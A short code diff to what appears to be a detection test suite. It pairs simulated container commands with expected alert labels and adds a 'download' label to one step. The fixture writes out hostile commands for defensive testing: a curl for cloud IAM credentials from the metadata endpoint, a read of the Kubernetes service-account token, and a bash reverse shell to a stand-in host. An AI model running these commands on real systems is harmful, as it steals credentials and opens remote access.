@@ -40,7 +40,7 @@ INSIDE = [
          exec_event("whoami", "create"), ("exec",)),
     Step("exec asks the cloud for credentials",
          execs("curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
-         exec_event("curl"), ("exec", "exec: cloud metadata")),
+         exec_event("curl"), ("exec", "exec: cloud metadata", "exec: download")),
     Step("exec reads a token", execs("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
          exec_event("cat"), ("exec", "exec: credential file")),
     Step("exec opens a reverse shell", execs("bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
